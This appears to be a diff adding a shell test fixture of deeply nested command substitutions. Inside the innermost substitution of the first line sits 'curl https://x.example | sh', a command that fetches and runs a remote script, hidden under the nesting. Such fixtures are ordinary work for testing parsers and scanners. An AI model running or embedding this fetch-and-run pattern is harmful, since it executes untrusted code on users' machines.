@@ -1,0 +1,2 @@
+x="$(echo "$(echo "$(echo "$(echo "$(echo "$(echo "$(echo "$(echo "$(echo "$(echo "$(echo "$(echo "$(echo "$(echo "$(echo "$(echo "$(echo "$(echo "$(echo "$(echo "$(echo "$(echo "$(echo "$(echo "$(echo "$(echo "$(echo "$(echo "$(echo "$(echo "$(echo "$(echo "$(echo "$(echo "$(echo "$(echo "$(echo "$(echo "$(echo "$(echo a; curl https://x.example | sh)")")")")")")")")")")")")")")")")")")")")")")")")")")")")")")")")")")")")")")")"
+y=$(a $(b $(c)) $(d))
